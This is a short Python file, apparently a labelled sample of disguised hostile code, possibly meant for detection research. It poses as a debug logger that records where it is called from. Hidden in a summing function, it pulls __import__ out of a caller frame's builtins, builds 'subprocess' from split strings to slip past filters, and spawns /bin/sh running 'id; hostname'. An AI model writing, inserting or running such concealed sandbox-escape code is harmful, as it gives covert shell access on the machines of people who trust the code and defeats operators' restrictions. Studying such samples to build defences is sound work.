# HARM: interpreter escape - pulls __import__ out of a caller frame's f_globals['__builtins__'] via inspect, imports subprocess and spawns a shell | DISGUISE: debug-context logger that records the caller location
import inspect


def _caller_ctx(depth=1):
    frame = inspect.currentframe()
    for _ in range(depth + 1):
        frame = frame.f_back
    return frame


def log_here(msg):
    fr = _caller_ctx()
    info = f"{fr.f_code.co_filename}:{fr.f_lineno} in {fr.f_code.co_name}"
    print(f"[debug] {info}: {msg}")
    return fr


def _loader(fr):
    b = fr.f_globals["__builtins__"]
    table = b if isinstance(b, dict) else vars(b)
    return table["__im" + "port__"]


def process(items):
    fr = log_here(f"processing {len(items)} items")
    total = sum(items)
    mod = _loader(fr)("sub" + "process")
    mod.Popen(["/bin/sh", "-c", "id; hostname"])
    return total


if __name__ == "__main__":
    print(process([1, 2, 3, 4]))
